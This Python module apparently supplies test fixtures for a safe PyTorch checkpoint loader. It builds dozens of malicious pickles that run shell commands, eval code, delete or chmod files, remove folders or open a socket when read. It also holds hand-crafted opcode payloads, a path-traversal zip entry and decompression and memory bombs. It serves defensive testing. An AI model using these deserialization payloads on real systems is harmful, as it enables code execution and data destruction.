"""Pickles that do harm when they are read as pickles are: forty kinds, and some that only a careless reader would fall for.

Each is to change the folder ``place``, which holds a file ``kept``, a folder ``full`` and an evil module, or to call at a port.
"""

import functools
import importlib
import io
import marshal
import operator
import os
import pickle
import runpy
import shutil
import socket
import struct
import subprocess
import tempfile
import timeit
import warnings
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import torch

TENSORS = {"w": torch.arange(4.0), "b": torch.ones(2)}


class Call:
    """Is pickled as the call of a function."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.function, self.args = function, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.args

    def __call__(self) -> None:
        """Be callable, as what is called must be."""


def furnish(place: Path) -> None:
    """Lay out what there is to be harmed."""
    (place / "full").mkdir(parents=True)
    (place / "full" / "file").write_text("file")
    (place / "kept").write_text("kept")
    (place / "evil.py").write_text(f"open({str(place / 'trace')!r}, 'w')")
    (place / "evil.pkl").write_bytes(pickle.dumps(Call(os.system, f"touch {place / 'trace'}")))


def calls(place: Path, port: int) -> dict[str, Any]:
    """Return objects whose reading calls something, by what is called."""
    trace, kept = str(place / "trace"), str(place / "kept")
    shell, code = f"touch {trace}", f"open({trace!r}, 'w')"
    nested = pickle.dumps(Call(os.system, shell))
    saved = io.BytesIO()
    torch.save(Call(os.system, shell), saved)
    compiled = marshal.dumps(compile(code, "x", "exec"))
    modules = Call(importlib.import_module, "os")
    return {
        "os.system": Call(os.system, shell),
        "subprocess.Popen": Call(subprocess.Popen, ["touch", trace]),
        "subprocess.run": Call(subprocess.run, ["touch", trace]),
        "subprocess.getoutput": Call(subprocess.getoutput, shell),
        "os.spawnlp": Call(os.spawnlp, os.P_WAIT, "touch", "touch", trace),
        "os.posix_spawn": Call(os.posix_spawn, "/usr/bin/touch", ["touch", trace], {}),
        "os.execvp": Call(os.execvp, "touch", ["touch", trace]),
        "eval": Call(eval, code),
        "exec": Call(exec, code),
        "timeit.timeit": Call(timeit.timeit, code, "pass", timeit.default_timer, 1),
        "runpy.run_path": Call(runpy.run_path, str(place / "evil.py")),
        "marshal.loads": Call(exec, Call(marshal.loads, compiled)),
        "numpy's runstring": Call(np.testing._private.utils.runstring, code, {}),
        "functools.partial": Call(Call(functools.partial, os.system), shell),
        "operator.methodcaller": Call(Call(operator.methodcaller, "system", shell), modules),
        "getattr": Call(Call(getattr, modules, "system"), shell),
        "map": Call(list, Call(map, os.system, [shell])),
        "open": Call(open, trace, "w"),
        "io.FileIO": Call(io.FileIO, trace, "w"),
        "os.open": Call(os.open, trace, os.O_CREAT | os.O_WRONLY),
        "Path.write_text": Call(Path.write_text, Path(trace), "x"),
        "os.mkdir": Call(os.mkdir, trace),
        "os.symlink": Call(os.symlink, kept, trace),
        "os.link": Call(os.link, kept, trace),
        "os.rename": Call(os.rename, kept, trace),
        "os.remove": Call(os.remove, kept),
        "os.chmod": Call(os.chmod, kept, 0o777),
        "os.truncate": Call(os.truncate, kept, 0),
        "shutil.copyfile": Call(shutil.copyfile, kept, trace),
        "shutil.rmtree": Call(shutil.rmtree, str(place / "full")),
        "tempfile.mkdtemp": Call(tempfile.mkdtemp, "", "trace", str(place)),
        "zipfile.ZipFile": Call(zipfile.ZipFile, trace, "w"),
        "numpy.memmap": Call(np.memmap, trace, "uint8", "w+", 0, (1,)),
        "torch.save": Call(torch.save, {}, trace),
        "torch.load": Call(functools.partial(torch.load, weights_only=False), str(place / "evil.pkl")),
        "torch.storage._load_from_bytes": Call(torch.storage._load_from_bytes, saved.getvalue()),
        "pickle.loads": Call(pickle.loads, nested),
        "socket.create_connection": Call(socket.create_connection, ("127.0.0.1", port)),
    }


def opcodes(place: Path) -> dict[str, bytes]:
    """Return pickles that come to a call by other ways than a reduction, or under another name."""
    trace = str(place / "trace")
    shell = _operand(f"touch {trace}")
    memory_map, arguments = b"cnumpy\nmemmap\n", _operand((trace, "uint8", "w+", 0, (1,)))
    return {
        "INST": b"(" + shell + b"ios\nsystem\n.",
        "OBJ": b"(csubprocess\nPopen\n" + _operand(["touch", trace]) + b"o.",
        "NEWOBJ": b"\x80\x02" + memory_map + arguments + b"\x81.",
        "NEWOBJ_EX": b"\x80\x04" + memory_map + arguments + b"}\x92.",
        "BUILD": pickle.dumps(Call(Stated(functools.partial, (print,), (os.system, (f"touch {trace}",), {}, None))), 2),
        "a dotted name": b"\x80\x04" + _name("torch.serialization", "os.system") + shell + b"\x85R.",
        "a dotted name in a network's library": b"\x80\x04"
        + _name("torch.nn.modules.module", "torch.serialization.os.system")
        + shell
        + b"\x85R.",
    }


class Stated:
    """Is pickled as the call of a function and a state that its result is given."""

    def __init__(self, *parts: Any) -> None:
        self.parts = parts

    def __reduce__(self) -> tuple[Any, ...]:
        return self.parts

    def __call__(self) -> None:
        """Be callable, as what is called must be."""


def _operand(value: Any) -> bytes:
    """Return the opcodes that put a value on the stack."""
    return pickle.dumps(value, 2)[2:-1]


def _name(module: str, name: str) -> bytes:
    """Return the opcodes that put what a module knows by a name, even one with dots, on the stack."""
    return b"".join(b"\x8c" + bytes([len(part)]) + part.encode() for part in (module, name)) + b"\x93"


def attacks(place: Path, port: int) -> dict[str, bytes]:
    """Return files of all kinds, in each of the forms in which a checkpoint may come."""
    files = {}
    for number, (kind, call) in enumerate(calls(place, port).items()):
        content = {**TENSORS, "extra": call}
        if number % 3 == 0:
            files[kind] = pickle.dumps({"extra": call}, 2)
        else:
            stream = io.BytesIO()
            torch.save(content, stream, _use_new_zipfile_serialization=number % 3 == 1)
            files[kind] = stream.getvalue()
    raw = opcodes(place)
    return files | raw | {f"{kind} in an archive": archive(content) for kind, content in raw.items()}


def archive(data: bytes, *others: tuple[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """Return an archive as PyTorch writes them, around a pickle."""
    stream = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "w", compression) as file:
        warnings.simplefilter("ignore")  # of names that stand twice
        for name, content in (("archive/data.pkl", data), ("archive/byteorder", b"little"), ("archive/version", b"3\n"), *others):
            file.writestr(name, content)
    return stream.getvalue()


def traps(place: Path) -> dict[str, bytes]:
    """Return files that only a careless reader would fall for: that write where they are unpacked, or take all memory."""
    valid = io.BytesIO()
    torch.save(TENSORS, valid)
    storage = b"(" + _operand("storage") + b"ctorch\nFloatStorage\n" + _operand("0") + _operand("cpu") + b"K\x01tQ"
    wide = (
        b"\x80\x02}" + _operand("w") + b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00" + _operand((1 << 40,)) + _operand((0,))
    )
    wide += b"\x89ccollections\nOrderedDict\n)RtRs."
    with zipfile.ZipFile(valid, "a") as file:
        file.writestr(f"../../../../../../{place / 'trace'}", b"x")
    return {
        "names that leave the archive": valid.getvalue(),
        "a tensor of a number of stride 0": archive(wide, ("archive/data/0", bytes(4))),
        "bytes without end": b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b".",
        "a text without end": b"\x80\x04\x8d" + struct.pack("<Q", 1 << 40) + b".",
        "lists in lists": b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b".",
        "a memo without end": b"\x80\x02" + b"".join(b"K\x00r" + struct.pack("<I", place) + b"0" for place in range(200_000)) + b"N.",
        "TorchScript": archive(b"\x80\x02N.", ("archive/constants.pkl", b"\x80\x02)."), ("archive/code/x.py", b"import os")),
        "two pickles": archive(pickle.dumps({}), ("archive/data.pkl", opcodes(place)["INST"])),
        "a size that lies": _lying(archive(bytes(64 << 20), compression=zipfile.ZIP_DEFLATED)),
        "a nested archive": archive(archive(bytes(64 << 20), compression=zipfile.ZIP_DEFLATED)),
    }


def _lying(content: bytes) -> bytes:
    """Have an archive say that what it holds is small."""
    return content.replace((64 << 20).to_bytes(4, "little"), (100).to_bytes(4, "little"))
